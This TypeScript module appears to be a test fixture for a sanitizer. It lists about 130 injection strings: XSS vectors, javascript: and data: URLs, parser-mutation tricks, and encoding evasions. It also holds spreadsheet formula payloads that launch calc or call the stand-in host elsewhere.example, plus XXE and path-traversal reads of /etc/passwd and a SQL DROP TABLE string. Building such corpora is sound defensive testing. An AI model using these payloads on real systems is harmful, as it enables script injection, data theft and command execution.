/**
 * Texts that did harm where somebody let them: each would open a dialog, load something from elsewhere, lead there, or break out of where
 * it stands. None of them is more than words to us.
 */

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//elsewhere.example/a.js></SCRIPT>",
  "<script/x>alert(1)</script/x>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)//",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<script type=module>import "//elsewhere.example/a.js"</script>',
  '<script nonce="">alert(1)</script>',
  "<link rel=preload as=script href=//elsewhere.example/a.js>",
  "<link rel=stylesheet href=//elsewhere.example/a.css>",
  "<base href=//elsewhere.example/>",
  '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
];

const HANDLERS = [
  "<img src=x onerror=alert(1)>",
  "<img src=//elsewhere.example/p.png>",
  '<img srcset="//elsewhere.example/p.png 1x">',
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
  "<a href=x onclick=alert(1) autofocus>x</a>",
  "<p/onpointerenter=alert(1)>x",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "` onmouseover=`alert(1)",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<iframe src=//elsewhere.example/></iframe>",
  "<object data=//elsewhere.example/a.swf></object>",
  "<embed src=//elsewhere.example/a.swf>",
  "<form action=//elsewhere.example/><button autofocus>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<portal src=//elsewhere.example/></portal>",
  "<dialog open onclose=alert(1)>x</dialog>",
  "<x contenteditable onbeforeinput=alert(1) autofocus>x</x>",
];

const DRAWINGS = [
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//elsewhere.example/a.js /></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>',
  "<svg><image href=//elsewhere.example/p.png /></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)></svg>",
  "<svg><foreignObject><iframe src=//elsewhere.example/></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
];

const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "javascript://elsewhere.example/%0aalert(1)",
  "https:javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "//elsewhere.example/a",
  "\\\\elsewhere.example\\a",
  'http://elsewhere.example" onmouseover="alert(1)',
  "http://127.0.0.1:1/saved",
  "blob:http://elsewhere.example/1",
  "file:///etc/passwd",
  "[x](javascript:alert(1))",
  "![x](//elsewhere.example/p.png)",
  '[x]: javascript:alert(1) "x"',
  "<javascript:alert(1)>",
  '![x](x "onerror=alert(1)"){onerror=alert(1)}',
];

const MUTATIONS = [
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<table><td><form><input name=action></form><img src=x onerror=alert(1)></table>",
  "<p id=__proto__><img name=body><form id=main>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  "<select><option></select><img src=x onerror=alert(1)>",
  '<style>@import "//elsewhere.example/a.css";*{background:url(//elsewhere.example/p.png)}</style>',
  '<p style="background:url(//elsewhere.example/p.png)">x</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(//elsewhere.example/x)">x</p>',
];

const SPELLINGS = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u202e<script>alert(1)</script>\u202c",
  "\u2066gpj.exe\u2069 <img src=x onerror=alert(1)>",
  "<img\0 src=x onerror=alert(1)>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "\ufeff<img src=x onerror=alert(1)>",
  "<img\u000bsrc=x\u000conerror=alert(1)>",
  "\ud83d<script>alert(1)</script>",
  "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308<img src=x onerror=alert(1)>",
  "\u2028alert(1)\u2029",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\u001b$B<script>alert(1)</script>\u001b(B",
];

/** As a template of JavaScript has a value in it. */
function toPlace(expression: string): string {
  return `$\{${expression}}`;
}

const BREAKOUTS = [
  '"}</script><script>alert(1)</script>',
  "</script\u2028><img src=x onerror=alert(1)>",
  '\\";alert(1);//',
  "';alert(1);//",
  `\`;alert(1);//${toPlace("alert(1)")}`,
  `${toPlace("alert(1)")}{{constructor.constructor('alert(1)')()}}`,
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '$L1:["$","script",null,{"children":"alert(1)"}]',
  'self.__next_f.push([1,"</script><script>alert(1)</script>"])',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://elsewhere.example","x")',
  "+1+1",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  'x\n=WEBSERVICE("//elsewhere.example")',
  "\uff1d1+1",
  "Location: //elsewhere.example\r\n\r\n<script>alert(1)</script>",
  "../../../../etc/passwd",
  "'; DROP TABLE searches; --",
  '" OR actor = "x" OR title EXISTS OR "',
];

/** All of them, in an order that does not change. */
export const SHAPES: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...DRAWINGS,
  ...ADDRESSES,
  ...MUTATIONS,
  ...SPELLINGS,
  ...BREAKOUTS,
];
